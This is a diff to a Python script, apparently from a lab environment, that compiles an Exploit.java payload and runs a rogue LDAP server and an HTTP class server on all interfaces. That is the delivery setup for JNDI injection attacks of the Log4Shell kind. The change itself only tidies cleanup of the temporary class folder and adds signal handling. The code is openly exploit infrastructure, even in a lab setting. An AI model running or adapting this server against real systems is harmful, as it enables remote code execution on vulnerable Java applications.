@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import functools
 import http.server
+import signal
 import socketserver
 import subprocess
 import sys
@@ -110,25 +111,24 @@ class ClassHandler(http.server.SimpleHTTPRequestHandler):
     extensions_map = {".class": "application/java-vm", "": "application/octet-stream"}
 
 
-def compile_payload() -> Path:
-    """Compile Exploit.java (beside this file) into a fresh directory and return it."""
-    out = Path(tempfile.mkdtemp(prefix="netmon-lab-classes-"))
+def compile_payload(out: Path) -> None:
+    """Compile Exploit.java (beside this file) into out."""
     source = Path(__file__).with_name(f"{FACTORY}.java")
     subprocess.run(["javac", "-d", str(out), str(source)], check=True)
-    return out
 
 
 def main() -> None:
-    classes = compile_payload()
+    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))  # so the class folder is removed
     socketserver.ThreadingTCPServer.allow_reuse_address = True
     socketserver.ThreadingTCPServer.daemon_threads = True
-    ldap = socketserver.ThreadingTCPServer(("0.0.0.0", LDAP_PORT), LdapHandler)
-    threading.Thread(target=ldap.serve_forever, daemon=True).start()
-    handler = functools.partial(ClassHandler, directory=str(classes))
-    web = http.server.ThreadingHTTPServer(("0.0.0.0", HTTP_PORT), handler)
-    print(f"ldap on {LDAP_PORT}, classes on {HTTP_PORT}", flush=True)
-    sys.stderr.flush()
-    web.serve_forever()
+    with tempfile.TemporaryDirectory(prefix="netmon-lab-classes-") as classes:
+        compile_payload(Path(classes))
+        ldap = socketserver.ThreadingTCPServer(("0.0.0.0", LDAP_PORT), LdapHandler)
+        threading.Thread(target=ldap.serve_forever, daemon=True).start()
+        handler = functools.partial(ClassHandler, directory=classes)
+        web = http.server.ThreadingHTTPServer(("0.0.0.0", HTTP_PORT), handler)
+        print(f"ldap on {LDAP_PORT}, classes on {HTTP_PORT}", flush=True)
+        web.serve_forever()
 
 
 if __name__ == "__main__":
